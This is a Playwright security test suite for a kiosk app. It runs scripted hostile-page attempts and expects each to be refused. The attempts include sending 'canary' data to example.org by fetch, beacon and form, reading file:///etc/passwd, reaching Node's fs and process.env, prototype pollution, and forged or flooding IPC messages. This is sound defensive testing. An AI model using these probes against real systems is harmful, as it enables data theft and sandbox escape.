import { createServer } from 'node:net'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import Sqlite from 'better-sqlite3'
import type { Page } from '@playwright/test'
import type { View } from '../../electron/contract.ts'
import type { OpenedKiosk } from '../support/whole-kiosk.ts'
import { expect, test } from './kiosk.ts'

/**
 * The page as an attacker's: scripts of theirs run in it, with all that a page can reach. `evaluate` is how they got
 * in; everything they try from there must be refused, noted, and cost the kiosk nothing.
 */

interface KioskOfPage {
  send(message: unknown): void
  onScreen(listener: unknown): void
}

/** What became of each way out, tried by the page itself, all at once. */
function tryAll(page: Page, ways: Record<string, () => unknown>): Promise<Record<string, string>> {
  const sources = Object.fromEntries(Object.entries(ways).map(([name, way]) => [name, String(way)]))
  return page.evaluate(async (tried) => {
    const outcome = async (source: string) => {
      const silence = new Promise((resolve) => { setTimeout(() => { resolve('silence') }, 2000) })
      try {
        // Indirect: in the global scope, where an attacker's script would stand.
        const way = (0, eval)(`(${source})`) as () => unknown
        const result = await Promise.race([way(), silence])
        return result === 'silence' ? 'silence' : `done: ${String(result)}`
      } catch {
        return 'refused'
      }
    }
    const results = Object.entries(tried).map(async ([name, source]) => [name, await outcome(source)] as const)
    return Object.fromEntries(await Promise.all(results))
  }, sources)
}

const allRefused = (results: Record<string, string>) =>
  Object.fromEntries(Object.keys(results).map((name) => [name, expect.stringMatching(/^(refused|silence)$/)]))

/** Why the journal says that something was refused, each as often as it stands there. */
function refusalsOf({ place }: OpenedKiosk): string[] {
  const store = new Sqlite(place.store, { readonly: true })
  const reasons = store.prepare(`select json_extract(facts, '$.reason') from journal where kind = 'event-refused'`).pluck().all()
  store.close()
  return (reasons as string[]).sort()
}

const send = (page: Page, ...messages: unknown[]) =>
  page.evaluate((all) => {
    const { send } = Reflect.get(window, 'kiosk') as KioskOfPage
    for (const message of all) send(message)
  }, messages)

/** The View that the page shows, as a script in it overhears it. */
async function overhear(page: Page): Promise<() => Promise<View[]>> {
  await page.evaluate(() => {
    const heard: unknown[] = []
    Object.assign(window, { heard })
    window.addEventListener('kiosk-view', (event) => { heard.push((event as CustomEvent).detail) })
  })
  return () => page.evaluate(() => Reflect.get(window, 'heard') as View[])
}

test.describe('@create a hostile page', () => {
  test('gets nothing out: no request, socket, frame, worker, window, form or ping', async ({ opened, person }) => {
    await person.sees('start')
    const results = await tryAll(person.page, {
      fetch: () => fetch('https://example.org/?canary'),
      ownOrigin: () => fetch('/index.html'),
      otherMethod: () => fetch('/index.html', { method: 'POST', body: 'canary' }),
      loopback: () => fetch('http://127.0.0.1:1/'),
      xhr: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.onload = resolve
        request.onerror = reject
        request.open('GET', 'https://example.org/')
        request.send()
      }),
      eventSource: () => new Promise((resolve, reject) => {
        const source = new EventSource('https://example.org/')
        source.onopen = resolve
        source.onerror = reject
      }),
      webSocket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://example.org/')
        socket.onopen = resolve
        socket.onerror = reject
      }),
      webTransport: () => new WebTransport('https://example.org:4433/').ready,
      image: () => new Promise((resolve, reject) => {
        const image = new Image()
        image.onload = resolve
        image.onerror = reject
        image.src = 'https://example.org/x.png?canary'
      }),
      script: () => new Promise((resolve, reject) => {
        const script = document.createElement('script')
        script.onload = resolve
        script.onerror = reject
        script.src = 'https://example.org/x.js'
        document.body.append(script)
      }),
      moduleOfData: () => import(String('data:text/javascript,export default 1')),
      inlineScript: () => new Promise((resolve) => {
        Object.assign(window, { inlineRan: resolve })
        const script = document.createElement('script')
        script.textContent = 'inlineRan("ran")'
        document.body.append(script)
      }),
      // `Function` and `eval` are the door that the test itself came in by; a page's own handler is not.
      inlineHandler: () => new Promise((resolve) => {
        Object.assign(window, { handlerRan: resolve })
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="handlerRan(1)">')
      }),
      style: () => new Promise((resolve, reject) => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.onload = resolve
        link.onerror = reject
        link.href = 'https://example.org/x.css'
        document.head.append(link)
      }),
      font: () => new FontFace('x', 'url(https://example.org/x.woff2)').load(),
      frame: () => new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.src = 'https://example.org/'
        document.body.append(frame)
        frame.onload = () => { resolve(frame.contentDocument?.title) }
      }).then((title) => { if (title === undefined) throw new Error('a blank of its own') }),
      ownFrame: () => new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.src = '/index.html'
        document.body.append(frame)
        frame.onload = () => { resolve(frame.contentDocument?.title) }
      }).then((title) => { if (title === undefined) throw new Error('a blank of its own') }),
      object: () => new Promise((resolve, reject) => {
        const object = document.createElement('object')
        object.onload = resolve
        object.onerror = reject
        object.data = 'https://example.org/'
        document.body.append(object)
      }),
      worker: () => new Promise((resolve, reject) => {
        const worker = new Worker('data:text/javascript,postMessage(1)')
        worker.onmessage = resolve
        worker.onerror = reject
      }),
      workerOfOurFile: () => new Promise((resolve, reject) => {
        const own = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? ''
        const worker = new Worker(own, { type: 'module' })
        worker.onmessage = resolve
        worker.onerror = reject
      }),
      sharedWorker: () => new SharedWorker('data:text/javascript,onconnect=()=>{}').port.start(),
      serviceWorker: () => navigator.serviceWorker.register('/index.html'),
      workletOfData: () => new AudioContext().audioWorklet.addModule('data:text/javascript,1'),
      window: () => window.open('https://example.org/') ?? Promise.reject(new Error('none')),
      download: () => new Promise((_resolve, reject) => {
        const link = document.createElement('a')
        link.href = 'data:application/octet-stream,canary'
        link.download = 'canary'
        link.click()
        setTimeout(reject, 500)
      }),
      form: () => new Promise((_resolve, reject) => {
        document.body.insertAdjacentHTML('beforeend', '<form action="https://example.org/" method="post"><input name="q" value="canary"></form>')
        document.forms[0]?.submit()
        setTimeout(reject, 500)
      }),
      confirm: () => { if (!window.confirm('?')) throw new Error('no') },
      prompt: () => { if (window.prompt('?') === null) throw new Error('no') },
    })
    expect(results).toEqual(allRefused(results))
    // A ping never says how it ended: it is enough that nothing but our own page's files was ever answered.
    await person.page.evaluate(() => navigator.sendBeacon('https://example.org/', 'canary'))
    await person.sees('start')
    expect(person.page.context().pages()).toHaveLength(1)
    await expect.poll(() => refusalsOf(opened)).toEqual(['policy'])
  })

  test('reaches no socket of this machine, by no trick of the network: every attempt would be seen there', async ({ person }) => {
    const packets: string[] = []
    const datagrams = createSocket('udp4', (message) => packets.push(`udp ${String(message.length)}`)).bind(0, '127.0.0.1')
    const streams = createServer((socket) => {
      packets.push('tcp')
      socket.destroy()
    }).listen(0, '127.0.0.1')
    await Promise.all([once(datagrams, 'listening'), once(streams, 'listening')])
    const udp = datagrams.address().port
    const tcp = (streams.address() as { port: number }).port

    await person.sees('start')
    await person.page.evaluate(async ({ udp, tcp }) => {
      const place = `http://127.0.0.1:${String(tcp)}/`
      for (const rel of ['preconnect', 'prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest', 'dns-prefetch']) {
        const link = document.createElement('link')
        Object.assign(link, { rel, href: place, as: 'image' })
        document.head.append(link)
      }
      const video = document.createElement('video')
      video.src = place
      document.body.append(video)
      navigator.sendBeacon(place, 'canary')
      const peers = [`stun:127.0.0.1:${String(udp)}`, `turn:127.0.0.1:${String(udp)}`, `turn:127.0.0.1:${String(tcp)}?transport=tcp`].map(
        (urls) => new RTCPeerConnection({ iceServers: [{ urls, username: 'canary', credential: 'canary' }], iceCandidatePoolSize: 2 }),
      )
      for (const peer of peers) {
        peer.createDataChannel('canary')
        await peer.setLocalDescription(await peer.createOffer())
      }
      await Promise.all(peers.map((peer) => new Promise<void>((resolve) => {
        if (peer.iceGatheringState === 'complete') resolve()
        peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve() }
      })))
    }, { udp, tcp })
    // That the ears work is known from a word of our own, which comes after all of the page's.
    const own = createSocket('udp4')
    own.send('x', udp, '127.0.0.1')
    await expect.poll(() => packets.length).toBeGreaterThan(0)
    expect(packets).toEqual(['udp 1'])
    for (const socket of [datagrams, own, streams]) socket.close()
  })

  test('finds no place to leave anything in for the next page', async ({ person }) => {
    await person.sees('start')
    const results = await tryAll(person.page, {
      localStorage: () => { localStorage.setItem('canary', '1') },
      sessionStorage: () => { sessionStorage.setItem('canary', '1') },
      cookie: () => { document.cookie = 'canary=1; max-age=9999'; if (document.cookie === '') throw new Error('none') },
      cookieStore: () => Reflect.get(window, 'cookieStore').set('canary', '1'),
      indexedDB: () => indexedDB.open('canary'),
      caches: () => caches.open('canary'),
      files: () => navigator.storage.getDirectory(),
      serviceWorker: () => navigator.serviceWorker.register('/index.html'),
      sharedStorage: () => Reflect.get(window, 'sharedStorage').set('canary', '1'),
      password: async () => {
        await navigator.credentials.store(Reflect.construct(Reflect.get(window, 'PasswordCredential'), [{ id: 'canary', password: 'canary' }]))
        if ((await navigator.credentials.get({ password: true, mediation: 'silent' } as object)) === null) throw new Error('not kept')
      },
      clipboard: () => navigator.clipboard.writeText('canary'),
      protocolHandler: () => { navigator.registerProtocolHandler('web+canary', '/index.html?%s') },
      lock: () => navigator.locks.request('canary', () => 1),
    })
    expect(results).toEqual(allRefused(results))
  })

  test('is given no device, file, place, notice or payment, and the person is asked nothing', async ({ person }) => {
    await person.sees('start')
    const results = await tryAll(person.page, {
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      place: () => new Promise((resolve, reject) => { navigator.geolocation.getCurrentPosition(resolve, reject) }),
      notice: async () => { if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied') },
      midi: () => Reflect.get(navigator, 'requestMIDIAccess').call(navigator),
      usb: () => Reflect.get(navigator, 'usb').requestDevice({ filters: [] }),
      serial: () => Reflect.get(navigator, 'serial').requestPort(),
      hid: () => Reflect.get(navigator, 'hid').requestDevice({ filters: [] }),
      bluetooth: () => Reflect.get(navigator, 'bluetooth').requestDevice({ acceptAllDevices: true }),
      fileToRead: () => Reflect.get(window, 'showOpenFilePicker').call(window),
      fileToWrite: () => Reflect.get(window, 'showSaveFilePicker').call(window),
      folder: () => Reflect.get(window, 'showDirectoryPicker').call(window),
      fonts: () => Reflect.get(window, 'queryLocalFonts').call(window),
      screens: () => Reflect.get(window, 'getScreenDetails').call(window),
      clipboard: () => navigator.clipboard.readText(),
      passkey: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }),
      wakeLock: () => navigator.wakeLock.request('screen'),
      payment: () => new PaymentRequest([{ supportedMethods: 'https://example.org/pay' }], { total: { label: 'x', amount: { currency: 'ARS', value: '1' } } }).show(),
      etcPasswd: () => fetch('file:///etc/passwd'),
      fileAsFrame: () => new Promise((resolve, reject) => {
        const frame = document.createElement('iframe')
        frame.src = 'file:///etc/passwd'
        frame.onload = () => { if (frame.contentDocument?.body.textContent) resolve('read'); else reject(new Error('blank')) }
        document.body.append(frame)
      }),
      node: () => (Reflect.get(window, 'require') as (name: string) => unknown)('node:fs'),
      nodeProcess: () => (Reflect.get(window, 'process') as NodeJS.Process).env['HOME'],
      raw: () => (Reflect.get(window, 'kioskSend') as (message: string) => void)('x'),
      playwright: () => (Reflect.get(window, '__playwright__binding__') as (message: string) => void)('{'),
      playwrightController: () => Reflect.get(window, '__playwright__binding__controller__').callBinding('kioskBridge', 'x'),
    })
    expect(results).toEqual(allRefused(results))
    await person.startsToCreate()
    await person.sees('policies')
  })

  test('that turns elsewhere is stopped there or replaced, and the next person finds Inicio', async ({ person }) => {
    const places = [
      'https://example.org/', 'about:blank', 'file:///etc/passwd', 'data:text/html,<h1>x</h1>', 'blob', 'javascript:1',
      'chrome://settings', 'view-source:https://kiosk.invalid/index.html', '/robots.txt', '/index.html',
    ]
    for (const place of places) {
      await person.startsToCreate()
      await person.sees('policies')
      const before = person.page
      await before.evaluate((to) => {
        window.location.href = to === 'blob' ? URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })) : to
      }, place)
      // Either it stays where it was, of no use to who tried, or a fresh page takes its place.
      const stoppedOrReplaced = async () =>
        before.isClosed() || (await before.locator('main[data-screen="policies"]').count()) === 1
      await expect.poll(stoppedOrReplaced, { message: place }).toBe(true)
      if (!before.isClosed()) await before.reload().catch((error: unknown) => { expect(String(error)).toMatch(/closed|aborted/i) })
      await expect.poll(() => before.isClosed(), { message: place }).toBe(true)
      await person.sees('start')
      expect(person.page.url()).toBe('https://kiosk.invalid/index.html')
    }
  })

  test('misuses window.kiosk in vain: it is told nothing, and goes on as before', async ({ opened, person }) => {
    await person.sees('start')
    const thrown = await person.page.evaluate(() => {
      const kiosk = Reflect.get(window, 'kiosk') as KioskOfPage
      const tries: (() => void)[] = [
        () => { kiosk.send(Symbol('x')) },
        () => { kiosk.send(Object.create(null)) },
        () => { kiosk.send(undefined) },
        () => { kiosk.send({ id: 'x' }) },
        () => { kiosk.send(7) },
        () => { kiosk.send(['a', 'b']) },
        () => { Reflect.apply(kiosk.send, null, ['{}']) },
        () => { Object.defineProperty(kiosk, 'send', { value: null }) },
        () => { Reflect.set(kiosk, 'more', 1); if (Reflect.has(kiosk, 'more')) throw new Error('added') },
        () => { Reflect.deleteProperty(window, 'kiosk'); if (!('kiosk' in window)) throw new Error('deleted') },
        () => { Object.assign(Object.prototype, { mainFrame: true, origin: 'https://kiosk.invalid', polluted: true }) },
        () => { kiosk.send('{"id":"x","event":{"type":"activity"}}') },
      ]
      return tries.map((attempt) => {
        try {
          attempt()
          return 'said nothing'
        } catch (error) {
          return error instanceof TypeError ? 'TypeError' : String(error)
        }
      })
    })
    expect(thrown.filter((result) => !/^(said nothing|TypeError)$/.test(result))).toEqual([])
    expect(Reflect.has({}, 'polluted')).toBe(false)
    await person.startsToCreate()
    await person.sees('policies')
    await expect.poll(() => refusalsOf(opened)).toEqual(['not-an-envelope', 'not-json', 'unknown-screen'])
    expect(opened.log.filter((line) => line.includes('Error'))).toEqual([])
  })

  test('that asks for its views a second time is taken for reloaded, and replaced', async ({ person }) => {
    await person.startsToCreate()
    await person.sees('policies')
    const before = person.page
    await before.evaluate(() => { (Reflect.get(window, 'kiosk') as KioskOfPage).onScreen(() => {}) })
    await expect.poll(() => before.isClosed()).toBe(true)
    await person.sees('start')
  })

  test('forges, replays and twists events in vain: each kind is noted once, and nothing of it is kept', async ({ opened, person }) => {
    await person.sees('start')
    const heard = await overhear(person.page)
    await person.startsToCreate()
    await person.acceptsPolicies()
    await person.sees('enter-cuil')
    const views = await heard()
    const id = views.at(-1)?.id ?? ''
    const past = views[0]?.id ?? ''
    expect(past).not.toBe(id)
    const canary = 'Canario58Luz'
    const deep = `${'['.repeat(3000)}${']'.repeat(3000)}`
    await send(
      person.page,
      // Of an earlier screen, as it was: dropped in silence.
      JSON.stringify({ id: past, event: { type: 'continue', reachedEnd: true, accepted: true } }),
      JSON.stringify({ id: past, event: { type: 'create-clave' } }),
      // Steps skipped.
      JSON.stringify({ id, event: { type: 'continue', clave: canary, confirmation: canary } }),
      JSON.stringify({ id, event: { type: 'try-again' } }),
      JSON.stringify({ id, event: { type: 'start-using' } }),
      JSON.stringify({ id, event: { type: 'leave-confirmed' } }),
      // An id that is none, or no text.
      ...['forged', '', '__proto__', 'constructor'].map((forged) => JSON.stringify({ id: forged, event: { type: 'back' } })),
      JSON.stringify({ id: [id], event: { type: 'back' } }),
      // Prototypes and what is like them.
      `{"id":"${id}","event":{"type":"continue","cuil":"20","__proto__":{"human":true}}}`,
      `{"id":"${id}","__proto__":{"event":{"type":"back"}},"event":{"type":"typed","cuil":"20"}}`,
      JSON.stringify({ id, event: { type: 'continue', cuil: '20', constructor: { prototype: { human: true } } } }),
      JSON.stringify({ id, event: { type: 'continue', cuil: '20301234563', human: true } }),
      JSON.stringify({ id, event: { type: 'toString' } }),
      // Forms that the schema has no place for.
      JSON.stringify({ id, event: { type: 'typed', cuil: { length: 3 } } }),
      JSON.stringify({ id, event: { type: 'typed', cuil: canary.repeat(10) } }),
      JSON.stringify({ id, event: [] }),
      JSON.stringify([]),
      '{',
      'null',
      '\u0000',
      deep,
      `{"id":"${id}","event":${deep}}`,
      'x'.repeat(10_000_000),
      JSON.stringify({ id, event: { type: 'scan', payload: canary.repeat(800_000) } }),
    )
    await person.sees('enter-cuil')
    await person.typesDigits('2730')
    await expect(person.page.getByRole('textbox')).toHaveValue(/^27 – 30/)
    await expect.poll(() => refusalsOf(opened)).toEqual(
      ['not-an-envelope', 'not-an-event-of-this-screen', 'not-json', 'too-large', 'unknown-screen'],
    )
    expect(opened.log.filter((line) => line.includes('rechazó'))).toHaveLength(5)
    expect(opened.log.join('\n')).not.toContain(canary)
  })

  test('is heard from its top alone: what a frame in it sends is refused', async ({ opened, person }) => {
    await person.sees('start')
    const heard = await overhear(person.page)
    await person.page.evaluate(() => { document.body.append(document.createElement('iframe')) })
    const frame = person.page.frames()[1]
    if (!frame) throw new Error('no frame')
    const offered = () => ['kiosk', 'kioskSend', 'kioskReady'].filter((name) => name in window)
    expect(await frame.evaluate(offered)).toEqual([])
    // Handed back the raw function that every frame is born with and loses before its first script.
    const devTools = await person.page.context().newCDPSession(person.page)
    await devTools.send('Runtime.enable')
    await devTools.send('Runtime.addBinding', { name: 'kioskSend' })
    await person.touches('Accesibilidad')
    await expect.poll(async () => (await heard()).length).toBeGreaterThan(0)
    const id = (await heard()).at(-1)?.id
    await frame.evaluate((message) => { (Reflect.get(window, 'kioskSend') as (message: string) => void)(message) },
      JSON.stringify({ id, event: { type: 'close-overlay' } }))
    await expect.poll(() => refusalsOf(opened)).toEqual(['foreign-frame'])
    await expect(person.page.getByRole('dialog')).toBeVisible()
  })

  test('that floods the kiosk is replaced, and the next person is served', async ({ opened, person }) => {
    await person.startsToCreate()
    await person.sees('policies')
    const before = person.page
    await before.evaluate(() => {
      const { send } = Reflect.get(window, 'kiosk') as KioskOfPage
      for (let times = 0; times < 20_000; times += 1) send('{"id":"forged","event":{"type":"activity"}}')
    }).catch((error: unknown) => { expect(String(error)).toMatch(/closed/) })
    await expect.poll(() => before.isClosed()).toBe(true)
    await person.startsToCreate()
    await person.sees('policies')
    expect(refusalsOf(opened)).toEqual(['flood', 'too-many', 'unknown-screen'])
    expect(opened.log.filter((line) => line.includes('rechazó'))).toHaveLength(3)
  })

  test('that hangs is replaced once it should have shown something', async ({ opened, person }) => {
    await person.startsToCreate()
    await person.sees('policies')
    const before = person.page
    await before.evaluate(() => { setTimeout(() => { for (;;); }) })
    opened.clock.jump(60)
    await expect.poll(() => before.isClosed(), { timeout: 30_000 }).toBe(true)
    await person.startsToCreate()
    await person.sees('policies')
  })
})
